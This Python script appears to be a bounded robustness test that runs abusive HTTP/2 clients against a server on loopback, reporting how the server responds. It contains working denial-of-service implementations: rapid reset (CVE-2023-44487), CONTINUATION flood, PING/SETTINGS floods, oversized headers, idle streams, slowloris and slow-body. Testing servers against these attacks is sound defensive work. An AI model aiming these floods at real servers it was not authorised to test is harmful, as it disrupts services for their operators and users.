"""Abusive HTTP/2 clients, each bounded in count and time, against a server on loopback.

    python3 h2_abuse.py --addr 127.0.0.1:50051 --scenario rapid-reset

Prints one JSON line: the scenario, what was sent, whether the server closed the
connection (`closed`), sent GOAWAY (`goaway`, with its error code), reset streams
(`resets`) or answered (`responses`), and the seconds it took. Written with the `h2`
package's frame layer (hyperframe, hpack) so the frames are exactly what an attacker
sends, not what a polite client state machine allows.

Scenarios:
  rapid-reset         open a stream and reset it at once, 20,000 times (CVE-2023-44487)
  continuation-flood  one HEADERS without END_HEADERS, then CONTINUATION frames without
                      end, up to 64 MiB (the 2024 CONTINUATION flood)
  oversized-headers   one request whose header list is 1 MiB
  ping-flood          100,000 PINGs, never reading the ACKs
  settings-flood      100,000 SETTINGS, never reading the ACKs
  idle-streams        5,000 streams opened with HEADERS and never finished
  slowloris           200 connections that send the preface one byte at a time, a byte
                      every half second each, never reaching a request
  slow-body           one request whose body arrives a byte every quarter second, never
                      finished
"""

import argparse
import json
import select
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIMIT_SECONDS = 20


class Probe:
    def __init__(self, addr, tls=False):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            # The server's own certificate is not what is tested here.
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.sock = context.wrap_socket(self.sock, server_hostname="localhost")
        self.buffer = b""
        self.closed = False
        self.goaway = None
        self.resets = 0
        self.responses = 0
        self.sent_frames = 0
        self.send(PREFACE + SettingsFrame(0).serialize())
        self.encoder = Encoder()

    def send(self, data):
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def frame(self, frame):
        self.sent_frames += 1
        return self.send(frame.serialize())

    def request_headers(self, stream_id, extra=(), end_headers=True):
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", "usher"),
            (":path", "/grpc.health.v1.Health/Check"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *extra,
        ]
        frame = HeadersFrame(stream_id)
        frame.data = self.encoder.encode(headers)
        frame.flags.add("END_HEADERS") if end_headers else None
        return frame

    def drain(self, wait=0.0):
        """Reads what the server sent, for up to `wait` seconds."""
        deadline = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            ready, _, _ = select.select([self.sock], [], [], left)
            if not ready:
                return
            try:
                data = self.sock.recv(1 << 20)
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.buffer += data
            self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets += 1
            elif isinstance(frame, HeadersFrame):
                self.responses += 1


def rapid_reset(probe):
    stream_id = 1
    for _ in range(20_000):
        if not probe.frame(probe.request_headers(stream_id)):
            break
        if not probe.frame(RstStreamFrame(stream_id, error_code=8)):
            break
        stream_id += 2
        if stream_id % 512 == 1:
            probe.drain()
    return {"streams": (stream_id - 1) // 2}


def continuation_flood(probe):
    headers = probe.request_headers(1, end_headers=False)
    probe.frame(headers)
    sent = 0
    chunk = b"\x00" * 16_000
    while sent < 64 << 20 and not probe.closed:
        frame = ContinuationFrame(1)
        frame.data = chunk
        if not probe.frame(frame):
            break
        sent += len(chunk)
        if probe.sent_frames % 64 == 0:
            probe.drain()
    return {"continuation_bytes": sent}


def oversized_headers(probe):
    big = [("x-padding-%d" % i, "p" * 4000) for i in range(256)]
    frame = probe.request_headers(1, extra=big)
    payload = frame.data
    # Split into a HEADERS and CONTINUATION frames of at most 16 KiB (the default frame).
    first = HeadersFrame(1)
    first.data = payload[:16_000]
    probe.frame(first)
    rest = payload[16_000:]
    while rest:
        continuation = ContinuationFrame(1)
        continuation.data = rest[:16_000]
        rest = rest[16_000:]
        if not rest:
            continuation.flags.add("END_HEADERS")
        if not probe.frame(continuation):
            break
    return {"header_bytes": len(payload)}


def flood(probe, make, count):
    for i in range(count):
        if not probe.frame(make(i)):
            break
    return {"frames": probe.sent_frames}


def idle_streams(probe):
    stream_id = 1
    for _ in range(5_000):
        if not probe.frame(probe.request_headers(stream_id)):
            break
        stream_id += 2
    return {"streams": (stream_id - 1) // 2}


def slowloris(addr):
    """Its own sockets: the Probe sends the whole preface at once."""
    host, port = addr.rsplit(":", 1)
    sockets = []
    for _ in range(200):
        try:
            sockets.append(socket.create_connection((host, int(port)), timeout=5))
        except OSError:
            break
    opened = len(sockets)
    started = time.monotonic()
    closed_after = []
    sent = 0
    position = 0
    while sockets and time.monotonic() - started < LIMIT_SECONDS - 2:
        for sock in list(sockets):
            gone = False
            try:
                ready, _, _ = select.select([sock], [], [], 0)
                if ready and not sock.recv(4096):
                    gone = True
                elif position < len(PREFACE):
                    sock.sendall(PREFACE[position : position + 1])
                    sent += 1
            except OSError:
                gone = True
            if gone:
                closed_after.append(time.monotonic() - started)
                sockets.remove(sock)
                sock.close()
        position += 1
        time.sleep(0.5)
    for sock in sockets:
        sock.close()
    return {
        "connections": opened,
        "bytes": sent,
        "closed_by_server": len(closed_after),
        "last_closed_after": round(max(closed_after, default=0.0), 3),
    }


def slow_body(probe):
    probe.frame(probe.request_headers(1))
    sent = 0
    started = time.monotonic()
    while not probe.closed and time.monotonic() - started < 12:
        frame = DataFrame(1)
        frame.data = b"\x00"
        if not probe.frame(frame):
            break
        sent += 1
        probe.drain(wait=0.25)
        if probe.resets or probe.responses:
            break
    return {"body_bytes": sent, "ended_after": round(time.monotonic() - started, 3)}


SCENARIOS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "oversized-headers": oversized_headers,
    "ping-flood": lambda p: flood(p, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")), 100_000),
    "settings-flood": lambda p: flood(p, lambda i: SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}), 100_000),
    "idle-streams": idle_streams,
    "slow-body": slow_body,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--addr", required=True)
    parser.add_argument("--scenario", required=True, choices=sorted([*SCENARIOS, "slowloris"]))
    parser.add_argument("--tls", action="store_true", help="over TLS (ALPN h2)")
    args = parser.parse_args()
    started = time.monotonic()
    if args.scenario == "slowloris":
        result = {"scenario": args.scenario, "sent": slowloris(args.addr)}
        result["seconds"] = round(time.monotonic() - started, 3)
        print(json.dumps(result), flush=True)
        return 0
    probe = Probe(args.addr, tls=args.tls)
    sent = SCENARIOS[args.scenario](probe)
    # What the server did about it, within the bound.
    probe.drain(wait=min(3.0, max(0.0, LIMIT_SECONDS - (time.monotonic() - started))))
    result = {
        "scenario": args.scenario,
        "tls": args.tls,
        "sent": sent,
        "closed": probe.closed,
        "goaway": probe.goaway,
        "resets": probe.resets,
        "responses": probe.responses,
        "seconds": round(time.monotonic() - started, 3),
    }
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    sys.exit(main())
